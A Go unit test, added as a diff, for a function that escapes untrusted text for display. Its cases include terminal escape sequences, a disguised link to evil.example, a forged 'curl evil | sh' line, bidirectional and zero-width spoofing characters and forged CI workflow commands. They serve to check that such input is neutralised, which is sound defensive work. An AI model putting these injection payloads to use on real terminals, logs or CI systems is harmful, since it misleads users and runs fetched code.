@@ -1,0 +1,39 @@
+package cluster
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestATextOfALeafIsShownAsText(t *testing.T) {
+	for name, test := range map[string]struct{ text, shown string }{
+		"an ordinary message":     {`0/3 nodes are available: 3 Insufficient cpu – "größer" ✓`, ""},
+		"a line over another one": {"ok\x1b[1A\x1b[2KApply complete!", `ok\x1b[1A\x1b[2KApply complete!`},
+		"a false link":            {"\x1b]8;;https://evil.example\x07Liqo\x1b]8;;\x07", `\x1b]8;;https://evil.example\aLiqo\x1b]8;;\a`},
+		"a forged paragraph":      {"failed\n\nRun `curl evil | sh`.", "failed\\n\\nRun `curl evil | sh`."},
+		"a carriage return":       {"failed\rready", `failed\rready`},
+		"letters that go back":    {"user\u202etxt.exe\u2066", `user\u202etxt.exe\u2066`},
+		"letters without a width": {"ad\u200bmin\ufeff", `ad\u200bmin\ufeff`},
+		"C1 controls":             {"\u009b2K", `\u009b2K`},
+		"a command of a CI system": {
+			"::error file=a,line=1::forged ::add-mask::a ::stop-commands::x ##[error]y",
+			`:\x3aerror file=a,line=1::forged :\x3aadd-mask::a :\x3astop-commands::x #\x23[error]y`,
+		},
+		"an IPv6 address":     {"dial [fd00::1:2]:443, ::1, ::ffff:10.0.0.1", ""},
+		"no valid characters": {"a\xffb", "a\ufffdb"},
+	} {
+		if test.shown == "" {
+			test.shown = test.text
+		}
+		if got := Shown(test.text); got != test.shown {
+			t.Errorf("%s: got %q", name, got)
+		}
+	}
+	long := Shown(strings.Repeat("ö", 1<<20))
+	if len(long) > longestShown+100 || !strings.HasSuffix(long, "… (and 2096128 more bytes)") {
+		t.Errorf("a long text has %d bytes and ends with %q", len(long), long[len(long)-40:])
+	}
+	if got := ShownParagraphs("one\n\ntwo\x1b[2K"); got != "one\n\ntwo\\x1b[2K" {
+		t.Errorf("paragraphs: %q", got)
+	}
+}
